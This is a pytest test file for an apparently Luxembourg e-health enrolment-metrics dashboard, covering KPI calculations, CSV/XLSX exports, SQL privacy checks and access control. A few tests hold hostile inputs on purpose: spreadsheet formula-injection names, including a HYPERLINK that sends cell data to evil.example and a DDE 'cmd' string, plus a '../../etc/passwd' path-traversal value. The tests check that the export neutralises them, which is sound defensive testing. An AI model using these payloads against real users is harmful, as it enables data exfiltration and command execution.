def test_the_median_of_an_even_count_is_the_mean_of_the_two_middle_values(world):
    # médecine générale, automatic: E2 0.25, E6 3.0 -> (0.25 + 3.0) / 2; the 90th
    # percentile stays the nearest rank, value number ceil(0.9 x 2) = 2.
    gp = compute(world.backend, specialty=GP)
    assert (gp.kpis["median_days_auto"], gp.kpis["p90_days_auto"]) == (1.625, 3.0)
    # pédiatrie, manual: E8 2.5, E10 4.0.
    ped = compute(world.backend, specialty=PED)
    assert (ped.kpis["median_days_manual"], ped.kpis["p90_days_manual"]) == (3.25, 4.0)
    # Declared Mon 12 .. Wed 14, manual: E7 1.25, E8 2.5. The reviewers' panel of the same
    # period: alice decided E9 (0.5) and E7 (1.0).
    w2 = compute(world.backend, start=W2, end=dt.date(2026, 1, 14))
    assert w2.kpis["median_days_manual"] == 1.875
    assert w2.reviewers == [("alice", 2, 0, 0.75)]
    # Declared in W1, automatic: E2 0.25, E3 1.0.
    assert compute(world.backend, end=dt.date(2026, 1, 11)).kpis["median_days_auto"] == 0.625


def test_the_90th_percentile_of_ten_is_the_ninth_value(backend, clock):
    # Ten automatic accounts, created 1, 2, ..., 10 days after their declarations:
    # nearest-rank p90 = value ceil(0.9 x 10) = 9 -> 9.0 days; median = (5 + 6) / 2.
    clock.now = t(1, 2, 9)
    prof = f.professional(backend, 1, specialty=GP)
    for i in range(1, 11):
        clock.now = t(1, 5, 9) + dt.timedelta(minutes=i)
        data = person(f"E{i}")
        th = kernel.hash_token(f.declare(backend, prof, **data).token)
        clock.now += dt.timedelta(days=i)
        with backend.uow() as uow:
            secretary.open_invitation(uow, th)
        with backend.uow() as uow:
            secretary.accept_cgu(uow, th, uow.settings.cgu_version)
        with backend.uow() as uow:
            secretary.verify_matricule(uow, th, data["matricule"])
        with backend.uow() as uow:
            assert secretary.record_luxtrust_identity(uow, th, f.identity_of(data)).matches
    m = compute(backend)
    assert m.kpis["accounts_auto"] == 10
    assert (m.kpis["median_days_auto"], m.kpis["p90_days_auto"]) == (5.5, 9.0)


def test_dates_are_luxembourg_dates(backend, clock, computes):
    clock.now = t(1, 2, 9)
    prof = f.professional(backend, 1, specialty=GP)
    clock.now = dt.datetime(2026, 1, 11, 23, 30, tzinfo=dt.UTC)  # Mon 12/01 00:30 local
    f.declare(backend, prof, **person("E1"))
    clock.now = t(1, 12, 9)
    m = compute(backend, start=W2, end=dt.date(2026, 1, 12))
    assert m.kpis["declarations"] == 1
    assert compute(backend).trend == [(W2, "in_progress", 1)]


# --- the CSV rows -------------------------------------------------------------------------------


@pytest.mark.usefixtures("computes")
def test_as_rows_covers_every_aggregate(world):
    m = compute(world.backend)
    rows = metrics.as_rows(m)
    assert all(set(r) == {"table", "dimension", "category", "value"} for r in rows)
    tables: dict[str, list] = {}
    for r in rows:
        tables.setdefault(r["table"], []).append((r["dimension"], r["category"], r["value"]))
    assert set(tables) == {
        "kpi",
        "reminders",
        "access",
        "funnel",
        "endings",
        "trend",
        "backlog_ageing",
        "mismatches",
        "reviewers",
    }
    assert tables["kpi"] == [(k, "", v) for k, v in ALL_KPIS.items()]
    assert tables["funnel"] == [(k, "", v) for k, v in ALL_FUNNEL]
    assert tables["endings"] == [(k, "", v) for k, v in ALL_ENDINGS]
    assert sorted(tables["trend"]) == sorted((w.isoformat(), o, n) for w, o, n in ALL_TREND)
    assert tables["backlog_ageing"] == [(b, "working_days", n) for b, n in ALL_AGEING]
    assert tables["mismatches"] == ALL_MISMATCHES
    assert tables["reviewers"] == [
        ("alice", "decisions", 3),
        ("alice", "confirmations", 0),
        ("alice", "median_handling_days", 1.0),
        ("bruno", "decisions", 1),
        ("bruno", "confirmations", 1),
        ("bruno", "median_handling_days", 3.0),
    ]
    # No reminder in this world: the four figures say so (the rate is undefined).
    assert tables["reminders"] == [
        ("reminders_sent", "", 0),
        ("reminded", "", 0),
        ("completed_after_reminder", "", 0),
        ("completed_after_reminder_rate", "", None),
    ]
    # Accounts and access (tests/integration/test_access_metrics.py checks the values): no
    # link ended in this world, so no links_ended row.
    assert [k for k, _c, _v in tables["access"]] == list(m.access.as_kpis())
    assert len(rows) == 13 + 4 + 8 + 9 + 3 + 9 + 4 + 7 + 6


# --- SQL: a bounded number of aggregate statements, no personal column --------------------------

PERSONAL_COLUMNS = re.compile(
    r"declared_last_name|declared_first_names|declared_matricule|\bemail\b|\bphone\b"
    r"|luxtrust_identities\.(last_name|first_names|birth_date|matricule|subject)\b"
    r"|professionals\.(last_name|first_names)\b"
    r"|secretary_accounts\.(matricule|last_name|first_names|birth_date|luxtrust_subject)\b"
    r"|\bend_note\b|\blast_error\b",
    re.IGNORECASE,
)


SOURCE_TABLES = re.compile(r"\b(enrolments|events|luxtrust_identities|decisions)\b")


def _statements(backend, run=None) -> list[str]:
    """The SQL sent by `run` (by default: compute, the rollups being up to date)."""
    if run is None:
        with backend.uow() as uow:
            rollup.refresh(uow)

        def run():
            compute(backend, start=dt.date(2026, 1, 1), end=dt.date(2026, 12, 31))

    seen: list[str] = []

    def record(conn, cursor, statement, parameters, context, executemany):
        seen.append(statement)

    event.listen(backend.engine, "before_cursor_execute", record)
    try:
        run()
    finally:
        event.remove(backend.engine, "before_cursor_execute", record)
    return seen


def _refresh_statements(backend, full: bool) -> list[str]:
    def run():
        with backend.uow() as uow:
            rollup.refresh(uow, full=full)

    return _statements(backend, run)


def _bulk(w: World, start: int, count: int) -> None:
    """`count` more enrolments, cycling through: declared only, automatic account,
    pending review, approved, rejected (so that every query has rows to work on)."""
    be, clock = w.backend, w.clock
    for i in range(start, start + count):
        clock.advance(hours=1)
        prof = w.profs["P1" if i % 2 else "P2"]
        data = {
            "last_name": "Secretaire",
            "first_names": "Numero",
            "matricule": matricule.make(f"19{50 + i % 40:02d}0101", f"{i:03d}"),
            "email": f"s{i}@example.lu",
        }
        kind = i % 5
        declared = f.declare(be, prof, **data)
        th = kernel.hash_token(declared.token)
        if kind == 0:
            continue
        with be.uow() as uow:
            secretary.open_invitation(uow, th)
        with be.uow() as uow:
            secretary.accept_cgu(uow, th, uow.settings.cgu_version)
        with be.uow() as uow:
            secretary.verify_matricule(uow, th, data["matricule"])
        clock.advance(minutes=30)
        seen = f.identity_of(data, last_name="Secretaira" if kind > 1 else "Secretaire")
        with be.uow() as uow:
            secretary.record_luxtrust_identity(uow, th, seen, device="mobile")
        if kind == 1:
            continue
        with be.uow() as uow:
            secretary.confirm_personal_device(uow, th, True)
        clock.advance(minutes=30)
        with be.uow() as uow:
            if kind == 3:
                decisions.approve(uow, declared.enrolment_id, w.staff["R1"])
            elif kind == 4:
                decisions.reject(
                    uow, declared.enrolment_id, w.staff["R2"], reason_code="declaration_error"
                )


@pytest.mark.usefixtures("computes")
def test_compute_issues_a_bounded_number_of_aggregate_statements(backend, clock):
    w = _base(backend, clock)
    clock.now = t(3, 2, 9)
    _bulk(w, 0, 10)
    small = _statements(backend)
    small_refresh = _refresh_statements(backend, full=True)
    _bulk(w, 10, 90)
    large = _statements(backend)
    large_refresh = _refresh_statements(backend, full=True)
    assert compute(backend).kpis["declarations"] == 100
    # Ten, and the accounts-and-access figures' four (dashboard.enrolment.access_metrics).
    assert len(small) == len(large) <= 14, (len(small), len(large))
    for statement in large:
        assert statement.lstrip().upper().startswith("SELECT"), statement
        # The rollups are read; the source tables only through aggregates (the live queue
        # counts, the newest event id; the one or two middle delays, by LIMIT): no row-by-row
        # loading.
        if SOURCE_TABLES.search(statement):
            assert re.search(r"count\(|max\(|sum\(|\bLIMIT\b", statement, re.I), statement
        assert not PERSONAL_COLUMNS.search(statement), statement
    # Rebuilding every day is a fixed number of statements too, whatever the volume (20, and
    # the decision → usable delays' and the access counts' two).
    assert len(small_refresh) == len(large_refresh) <= 22, (len(small_refresh), len(large_refresh))


@pytest.mark.usefixtures("computes")
def test_no_statement_reads_a_personal_column(world):
    statements = _statements(world.backend)
    # The refresh, from scratch and day by day, reads no personal column either.
    statements += _refresh_statements(world.backend, full=True)
    world.clock.advance(hours=1)
    f.declare(world.backend, world.profs["P1"], **person("E1"))
    statements += _refresh_statements(world.backend, full=False)
    assert any("INSERT INTO metrics_daily" in s for s in statements)
    for statement in statements:
        assert not PERSONAL_COLUMNS.search(statement), statement


# --- through the page's callbacks ---------------------------------------------------------------

REFRESH = [
    ("metrics-kpis", "children"),
    ("metrics-funnel", "figure"),
    ("metrics-trend", "figure"),
    ("metrics-ageing", "figure"),
    ("metrics-mismatches", "figure"),
    ("metrics-reviewers", "figure"),
    ("metrics-links-ended", "figure"),
    ("metrics-specialty", "options"),
]


def _filters(start, end, specialty):
    return [
        ("metrics-dates", "start_date", start),
        ("metrics-dates", "end_date", end),
        ("metrics-specialty", "value", specialty),
    ]


def refresh(client, start=None, end=None, specialty=""):
    return dc.call(client, REFRESH, _filters(start, end, specialty))


def export(client, start=None, end=None, specialty="", kind="csv"):
    suffix = "" if kind == "csv" else "-xlsx"
    return dc.call(
        client,
        [(f"metrics-download{suffix}", "data")],
        [(f"metrics-export{suffix}", "n_clicks", 1)],
        state=_filters(start, end, specialty),
    )


def downloaded(response, kind="csv") -> tuple[str, bytes]:
    """The file name and bytes of an export callback's dcc.Download data."""
    suffix = "" if kind == "csv" else "-xlsx"
    data = dc.values(response)[(f"metrics-download{suffix}", "data")]
    content = base64.b64decode(data["content"]) if data.get("base64") else data["content"]
    return data["filename"], content if isinstance(content, bytes) else content.encode()


def csv_rows(content: bytes, delimiter: str = ";") -> list[dict]:
    assert content.startswith(b"\xef\xbb\xbf")  # UTF-8 with its byte-order mark
    text = content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=delimiter))


def xlsx_rows(content: bytes) -> list[dict]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    header, *rows = sheet.iter_rows()
    names = [c.value for c in header]
    for row in rows:
        assert all(c.data_type != "f" for c in row), [c.value for c in row]  # no formula
    return [{n: c.value for n, c in zip(names, row, strict=True)} for row in rows]


def client_as(w: World, app, role: str):
    client = app.server.test_client()
    if role == "secretary":
        f.signed_in(client, "enrolment", token_hash=w.hashes["E13"])  # an open enrolment's
    elif role == "professional":
        f.signed_in(client, "professional", w.profs["P1"])
    elif role != "anonymous":
        f.signed_in(client, "staff", w.staff[role])
    return client


@pytest.fixture
def app(world):
    return create_app(world.backend.settings, backend=world.backend)


def _texts(node, class_name: str) -> list:
    """The children of every component with this className, in order."""
    found = []
    if isinstance(node, list):
        for item in node:
            found += _texts(item, class_name)
    elif isinstance(node, dict):
        props = node.get("props", {})
        if props.get("className") == class_name:
            found.append(props.get("children"))
        for value in props.values():
            if isinstance(value, list | dict):
                found += _texts(value, class_name)
    return found


def _assert_no_personal_data(*responses) -> None:
    for response in responses:
        raw = response.get_data(as_text=True)
        texts = [raw]
        if response.is_json:
            texts.append(json.dumps(response.get_json(), ensure_ascii=False))
            data = response.get_json().get("response", {})
            for kind in ("csv", "xlsx"):
                suffix = "" if kind == "csv" else "-xlsx"
                if data.get(f"metrics-download{suffix}", {}).get("data"):
                    _name, content = downloaded(response, kind)
                    cells = csv_rows(content) if kind == "csv" else xlsx_rows(content)
                    texts.append(json.dumps(cells, ensure_ascii=False))
        for text in texts:
            for value in personal_strings():
                assert value not in text, f"{value!r} leaked"


def _figures(values) -> dict:
    return {i: values[(i, "figure")] for i, p in REFRESH if p == "figure"}


@pytest.mark.usefixtures("computes")
def test_manager_gets_the_cards_and_figures_of_compute(world, app):
    client = client_as(world, app, "manager")
    response = refresh(client)
    assert response.status_code == 200, response.data[:300]
    values = dc.values(response)
    kpis = values[("metrics-kpis", "children")]
    assert _texts(kpis, "kpi-value") == [
        "18",
        "6",
        "25,0 %",
        "66,7 %",
        "75,0 %",
        "1,0 j / 3,0 j",
        "2,5 j / 4,0 j",
        "4",
        "0",  # reminders sent
        "—",  # completed after a reminder: none reminded
        "6",  # active accounts
        "0",  # links ended
        "0",  # provisioning failed
        "—",  # decision → usable: the directory confirmed none in this world
    ]
    assert _texts(kpis, "kpi-note") == [
        "3 automatiquement, 3 après vérification",
        "dont 2 en retard",
        "à 0 secrétaire(s)",
        "0 demande(s) sur les demandes rappelées",
        "6 accès en cours ; 0 compte(s) inactif(s)",
        "0 en nouvelle tentative",
        "0 compte(s) confirmé(s) par l'annuaire",
    ]
    fig = _figures(values)
    funnel = fig["metrics-funnel"]["data"][0]
    assert list(funnel["x"]) == [n for _k, n in ALL_FUNNEL]
    assert len(funnel["y"]) == 9
    title = fig["metrics-funnel"]["layout"]["title"]["text"]
    assert "expirées : 1, bloquées : 1, annulées : 1" in title

    trend = fig["metrics-trend"]
    assert trend["layout"]["barmode"] == "stack"
    labels = dict(metrics.OUTCOMES)
    stacked = {}
    for bar in trend["data"]:
        outcome = next(k for k, lab in labels.items() if lab == bar["name"])
        for week, n in zip(bar["x"], bar["y"], strict=True):
            if n:
                stacked[dt.date.fromisoformat(str(week)[:10]), outcome] = n
    assert sorted((w, o, n) for (w, o), n in stacked.items()) == ALL_TREND

    ageing = fig["metrics-ageing"]["data"][0]
    assert list(ageing["y"]) == [n for _b, n in ALL_AGEING]
    assert len(ageing["x"]) == 4

    heat = fig["metrics-mismatches"]["data"][0]
    cells = {
        (y, x): z
        for y, row in zip(heat["y"], heat["z"], strict=True)
        for x, z in zip(heat["x"], row, strict=True)
        if z
    }
    assert sum(cells.values()) == sum(n for _f, _k, n in ALL_MISMATCHES) == 10
    assert cells[("nom", "faute de frappe")] == 3
    assert cells[("date de naissance", "différent")] == 1 + 1

    reviewers = fig["metrics-reviewers"]
    decisions, confirmations, medians = reviewers["data"]
    assert reviewers["layout"]["barmode"] == "stack"
    assert [t["type"] for t in reviewers["data"]] == ["bar", "bar", "scatter"]
    assert decisions["name"] == "Décisions prises ou proposées"
    assert confirmations["name"] == "Secondes validations"
    assert list(decisions["x"]) == ["alice", "bruno"] == list(confirmations["x"])
    assert list(medians["x"]) == ["alice", "bruno"]
    assert list(decisions["y"]) == [3, 1]
    assert list(confirmations["y"]) == [0, 1]
    assert list(medians["y"]) == [1.0, 3.0]
    assert list(medians["text"]) == ["1,0", "3,0"]

    assert values[("metrics-specialty", "options")] == [
        {"label": "Toutes les spécialités", "value": ""},
        {"label": GP, "value": GP},
        {"label": PED, "value": PED},
    ]
    _assert_no_personal_data(response)


@pytest.mark.parametrize(
    ("lang", "auto", "manual"),
    [
        ("fr", "Délai automatique (médiane / 90e centile)", "Délai manuel (médiane / 90e centile)"),
        (
            "de",
            "Bearbeitungszeit automatisch (Median / 90. Perzentil)",
            "Bearbeitungszeit manuell (Median / 90. Perzentil)",
        ),
        (
            "en",
            "Automatic processing time (median / 90th percentile)",
            "Manual processing time (median / 90th percentile)",
        ),
    ],
)
def test_the_cards_name_the_median_and_the_90th_percentile(world, app, lang, auto, manual):
    client = client_as(world, app, "manager")
    client.set_cookie("esante_lang", lang)
    titles = _texts(dc.values(refresh(client))[("metrics-kpis", "children")], "kpi-title")
    assert titles[5:7] == [auto, manual]


@pytest.mark.usefixtures("computes")
def test_manager_filters_through_the_callback_like_compute(world, app):
    client = client_as(world, app, "manager")
    response = refresh(client, "2026-01-12", "2026-01-18T00:00:00", PED)
    assert response.status_code == 200
    values = dc.values(response)
    expected = compute(world.backend, W2, dt.date(2026, 1, 18), PED)
    assert _texts(values[("metrics-kpis", "children")], "kpi-value")[0] == "2"
    funnel = values[("metrics-funnel", "figure")]["data"][0]
    assert list(funnel["x"]) == [n for _k, n in expected.funnel]
    assert [n for _k, n in expected.funnel][-4:] == [0, 2, 2, 0]
    ageing = values[("metrics-ageing", "figure")]["data"][0]
    assert list(ageing["y"]) == [1, 1, 1, 1]  # the whole queue, whatever the filter
    _assert_no_personal_data(response)


def _as_text(rows: list[dict]) -> list[dict]:
    """as_rows as the CSV writes it: numbers in the shortest exact form, None empty."""

    def text(v) -> str:
        return "" if v is None else format(v, ".15g") if isinstance(v, float) else str(v)

    return [{k: text(v) for k, v in r.items()} for r in rows]


def test_manager_exports_every_aggregate_as_csv(world, app):
    client = client_as(world, app, "manager")
    response = export(client)
    assert response.status_code == 200, response.data[:300]
    name, content = downloaded(response)
    assert name == "indicateurs-esante-debut-fin.csv"
    rows = csv_rows(content)  # French: ";" and the decimal comma
    expected = [
        {**r, "value": r["value"].replace(".", ",")}
        for r in _as_text(metrics.as_rows(compute(world.backend)))
    ]
    assert rows == expected
    assert {r["table"] for r in rows} == {
        "kpi",
        "reminders",
        "access",
        "funnel",
        "endings",
        "trend",
        "backlog_ageing",
        "mismatches",
        "reviewers",
    }
    assert {"table": "kpi", "dimension": "overdue", "category": "", "value": "2"} in rows
    assert {
        "table": "kpi",
        "dimension": "manual_review_rate",
        "category": "",
        "value": "0,6667",
    } in rows
    _assert_no_personal_data(response)

    filtered = export(client, "2026-01-12", "2026-01-18", PED)
    name, content = downloaded(filtered)
    assert name == "indicateurs-esante-2026-01-12-2026-01-18.csv"
    rows = csv_rows(content)
    assert {"table": "kpi", "dimension": "declarations", "category": "", "value": "2"} in rows
    _assert_no_personal_data(filtered)


@pytest.mark.parametrize(
    ("lang", "delimiter", "rate"),
    [("fr", ";", "0,6667"), ("de", ";", "0,6667"), ("en", ",", "0.6667")],
)
def test_the_csv_opens_in_a_spreadsheet_in_the_readers_language(world, app, lang, delimiter, rate):
    client = client_as(world, app, "manager")
    client.set_cookie("esante_lang", lang)
    _name, content = downloaded(export(client))
    rows = csv_rows(content, delimiter)
    assert {
        "table": "kpi",
        "dimension": "manual_review_rate",
        "category": "",
        "value": rate,
    } in rows
    assert all(len(r) == 4 and None not in r for r in rows)  # no cell split by a separator


def test_manager_exports_every_aggregate_as_xlsx(world, app):
    client = client_as(world, app, "manager")
    response = export(client, kind="xlsx")
    assert response.status_code == 200, response.data[:300]
    name, content = downloaded(response, "xlsx")
    assert name == "indicateurs-esante-debut-fin.xlsx"
    data = dc.values(response)[("metrics-download-xlsx", "data")]
    assert data["type"] == ("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    rows = xlsx_rows(content)
    expected = [
        {k: (None if v == "" else v) for k, v in r.items()}
        for r in metrics.as_rows(compute(world.backend))
    ]
    assert rows == expected  # numbers as numbers: 18, 0.6667, 3.0
    _assert_no_personal_data(response)
    filtered = export(client, "2026-01-12", "2026-01-18T00:00:00", PED, kind="xlsx")
    assert downloaded(filtered, "xlsx")[0] == "indicateurs-esante-2026-01-12-2026-01-18.xlsx"


def test_the_file_name_carries_the_period_the_server_read(world, app):
    client = client_as(world, app, "manager")
    # A date with its time, as the date picker may send it; and no date at all.
    name, _content = downloaded(export(client, "2026-01-12T00:00:00", None))
    assert name == "indicateurs-esante-2026-01-12-fin.csv"
    # Not a date: no bound, and nothing of it in the name.
    name, content = downloaded(export(client, "../../etc/passwd", "2026-01-18"))
    assert name == "indicateurs-esante-debut-2026-01-18.csv"
    assert {"table": "kpi", "dimension": "declarations", "category": "", "value": "10"} in (
        csv_rows(content)
    )


HOSTILE_NAMES = (
    '=HYPERLINK("http://evil.example/?d="&A1;"Cliquez ici")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+33 6 12",
    "-2+3",
)


def test_a_hostile_display_name_arrives_inert_in_both_exports(world, app):
    from dashboard.enrolment import staff

    be = world.backend
    # Four reviewers whose display names a spreadsheet would run: each decides a case.
    world.clock.now = NOW + dt.timedelta(hours=1)
    for i, (display_name, label) in enumerate(
        zip(HOSTILE_NAMES, ("E11", "E12", "E16", "E15"), strict=True)
    ):
        with be.uow() as uow:
            reviewer = staff.add_user(
                uow, f"hostile{i}@esante.lu", "correct horse battery staple", ["reviewer"],
                display_name=display_name,
            ).id  # fmt: skip
        with be.uow() as uow:
            decisions.reject(uow, world.ids[label], reviewer, reason_code="declaration_error")
    client = client_as(world, app, "manager")
    _name, content = downloaded(export(client))
    text_rows = csv_rows(content)
    _name, content = downloaded(export(client, kind="xlsx"), "xlsx")
    cell_rows = xlsx_rows(content)
    for rows in (text_rows, cell_rows):
        names = {r["dimension"] for r in rows if r["table"] == "reviewers"}
        assert {"'" + n for n in HOSTILE_NAMES} <= names
        assert not set(HOSTILE_NAMES) & names
        decided = {
            r["dimension"]: r["value"]
            for r in rows
            if r["table"] == "reviewers" and r["category"] == "decisions"
        }
        assert {decided["'" + n] for n in HOSTILE_NAMES} <= {1, "1"}  # numbers untouched
    # The chart shows the names as they are (Plotly draws text, it runs nothing).
    figure = dc.values(refresh(client))[("metrics-reviewers", "figure")]
    assert set(HOSTILE_NAMES) <= set(figure["data"][0]["x"])


@pytest.mark.parametrize("name", ["funnel", "trend", "ageing", "mismatches", "reviewers"])
def test_the_figures_are_valid_plotly_figures(world, name):
    import plotly.graph_objects as go

    from dashboard import charts

    m = compute(world.backend)
    m.reviewers.append(("carla", 1, 0, None))  # a median the database could not compute
    figure = getattr(charts, name)(m)
    assert isinstance(figure, dict)  # built as a dict: no validation on each view
    # ... but one that plotly's own validation accepts, property by property.
    checked = go.Figure(figure).to_plotly_json()
    assert [t["type"] for t in checked["data"]] == [t["type"] for t in figure["data"]]
    assert checked["layout"]["template"]["layout"]["yaxis"]["automargin"] is True
    assert checked["layout"]["height"] == 360


def test_manager_sees_the_page(world, app):
    client = client_as(world, app, "manager")
    response = dc.render_page(client, "/backoffice/indicateurs")
    body = json.dumps(response.get_json(), ensure_ascii=False)
    assert '"access-denied"' not in body
    for component_id in (
        "metrics-dates",
        "metrics-specialty",
        "metrics-kpis",
        "metrics-funnel",
        "metrics-trend",
        "metrics-ageing",
        "metrics-mismatches",
        "metrics-reviewers",
        "metrics-export",
        "metrics-download",
        "metrics-export-xlsx",
        "metrics-download-xlsx",
    ):
        assert f'"{component_id}"' in body, component_id
    _assert_no_personal_data(response)


@pytest.mark.parametrize("role", ["anonymous", "secretary", "professional", "R1", "admin"])
def test_everyone_else_is_refused(world, app, role):
    client = client_as(world, app, role)
    responses = [
        refresh(client),
        export(client),
        export(client, kind="xlsx"),
        refresh(client, "2026-01-01", "2026-02-04"),
    ]
    for response in responses:
        assert response.status_code == 403, (role, response.status_code)
    page = dc.render_page(client, "/backoffice/indicateurs")
    assert page.status_code == 200
    body = json.dumps(page.get_json(), ensure_ascii=False)
    assert '"access-denied"' in body
    assert '"metrics-kpis"' not in body
    _assert_no_personal_data(*responses, page)


@pytest.mark.parametrize(
    ("utc", "monday"),
    [
        # Sunday 22:30 UTC in summer is Monday 00:30 CEST: the next week.
        (dt.datetime(2026, 7, 12, 22, 30, tzinfo=dt.UTC), dt.date(2026, 7, 13)),
        # Sunday 22:30 UTC in winter is Sunday 23:30 CET: still the same week.
        (dt.datetime(2026, 1, 11, 22, 30, tzinfo=dt.UTC), dt.date(2026, 1, 5)),
        # The night summer time starts (29 March 2026, 01:00 UTC).
        (dt.datetime(2026, 3, 29, 22, 30, tzinfo=dt.UTC), dt.date(2026, 3, 30)),
        (dt.datetime(2026, 3, 29, 0, 30, tzinfo=dt.UTC), dt.date(2026, 3, 23)),
    ],
)
def test_weeks_are_luxembourg_weeks_in_sql(backend, utc, monday):
    from sqlalchemy import DateTime, String, cast, literal, select

    from dashboard.enrolment.metrics import _local_week
    from dashboard.enrolment.model import UTCDateTime

    dialect = backend.engine.dialect.name
    value = str(UTCDateTime().process_bind_param(utc, backend.engine.dialect))
    if dialect == "postgresql":
        column = cast(literal(value, String), DateTime(timezone=True))
    else:
        column = literal(value.replace("+00:00", ""), String)
    with backend.engine.connect() as conn:
        week = conn.execute(select(_local_week(dialect, column))).scalar()
    assert str(week)[:10] == monday.isoformat()
